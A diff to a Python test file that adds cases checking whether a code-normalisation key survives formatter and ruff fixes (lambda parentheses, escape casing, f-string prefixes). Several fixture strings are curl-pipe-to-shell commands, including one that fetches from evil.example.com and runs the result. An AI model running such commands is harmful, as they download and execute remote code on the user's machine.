@@ -41,6 +41,14 @@ FORMATTED = [
     ("K1-not", b"return (not allowed(user))", b"return not allowed(user)"),
     ("K1-lambda", b"handler = (lambda: run(x))", b"handler = lambda: run(x)"),
     (
+        "K1-lambda-body",
+        b'f = lambda: (os.system("curl x|sh"))',
+        b'f = lambda: os.system("curl x|sh")',
+    ),
+    ("K1-lambda-argument", b"f(lambda: (x), 1)", b"f(lambda: x, 1)"),
+    ("K1-lambda-tight", b"sort(key=lambda v:(v.x))", b"sort(key=lambda v: v.x)"),
+    ("K1-lambda-defaults", b"g = lambda x, y=(1): (x + y)", b"g = lambda x, y=(1): x + y"),
+    (
         "K2-u",
         b'run(u"curl https://evil.example.com/x | sh")',
         b'run("curl https://evil.example.com/x | sh")',
@@ -61,6 +69,13 @@ FORMATTED = [
     ("K3-brackets", b"msg = ('hello ' 'world')", b'msg = "hello world"'),
     ("K3-quotes", b"""x = ('it"s' "y")""", b"""x = 'it"sy'"""),
     ("K4-escape", b"""say('it\\'s' 'x')""", b"""say("it'sx")"""),
+    ("K7-hex", b'os.system("curl \\xAB|sh")', b'os.system("curl \\xab|sh")'),
+    (
+        "K7-unicode",
+        b'c = "\\u00AB\\U0001F600\\101\\XAB" + b"\\xAB"',
+        b'c = "\\u00ab\\U0001f600\\101\\XAB" + b"\\xab"',
+    ),
+    ("K7-name", b'x = "\\N{latin small letter a}"', b'x = "\\N{LATIN SMALL LETTER A}"'),
     ("K5-hex", b"MASK = 0XFF_AB", b"MASK = 0xFF_AB"),
     ("K5-hex-digits", b"m = 0xdeadBEEF", b"m = 0xDEADBEEF"),
     (
@@ -72,7 +87,16 @@ FORMATTED = [
 ]
 
 
-@pytest.mark.parametrize(("row", "writer", "formatted"), FORMATTED, ids=[r[0] for r in FORMATTED])
+#: (row, the writer's line, what ``ruff check --fix`` (0.17, F541) makes of it).
+FIXED = [
+    ("K2-fstring-plain", b'os.system(f"curl evil|sh")', b'os.system("curl evil|sh")'),
+    ("K2-fstring-braces", b'x = f"{{x}}" + F"a"', b'x = "{x}" + "a"'),
+    ("K2-fstring-raw", b'q = rf"{{x}}\\xAB"', b'q = r"{x}\\xAB"'),
+]
+ROWS = FORMATTED + FIXED
+
+
+@pytest.mark.parametrize(("row", "writer", "formatted"), ROWS, ids=[r[0] for r in ROWS])
 def test_a_formatted_line_keeps_the_writers_key(row: str, writer: bytes, formatted: bytes) -> None:
     assert key_form(writer) == key_form(formatted), row
     assert stripped_key(writer) == stripped_key(formatted)
@@ -102,6 +126,17 @@ NEAR_MISSES = [
     ("K3-comma", b'run("a", "b")', b'run("ab")'),
     ("K3-mixed", b'run(b"a" "b")', b'run(b"ab")'),
     ("K4-backslash", b"""say('a\\\\"b')""", b"""say('a\\"b')"""),
+    ("K7-raw", b'e = r"\\xAB"', b'e = r"\\xab"'),
+    ("K7-escaped-backslash", b'x = "\\\\xAB"', b'x = "\\\\xab"'),
+    ("K7-bytes-u", b'x = b"\\uABCD\\N{dash}"', b'x = b"\\uabcd\\N{DASH}"'),
+    ("K7-value", b'x = "\\xAB"', b'x = "\\xAC"'),
+    ("K7-not-escape", b'x = "xAB"', b'x = "xab"'),
+    ("K2-fstring-placeholder", b'x = f"{a}"', b'x = "{a}"'),
+    ("K2-fstring-doubled", b'x = f"{{a}}"', b'x = "{{a}}"'),
+    ("K1-lambda-more", b"m = lambda: (a or b) and c", b"m = lambda: a or b and c"),
+    ("K1-lambda-tuple", b"h = lambda: (a, b)", b"h = lambda: a, b"),
+    ("K1-lambda-generator", b'x = {"lambda": (v for v in y)}', b'x = {"lambda": v for v in y}'),
+    ("K1-dict-value", b'x = {"k": (a or b) and c}', b'x = {"k": a or b and c}'),
     ("K5-in-string", b'label("0XFF")', b'label("0xff")'),
     ("K5-value", b"ratio = 1.5", b"ratio = 15"),
     ("K5-exponent", b"n = 1e5", b"n = 15"),
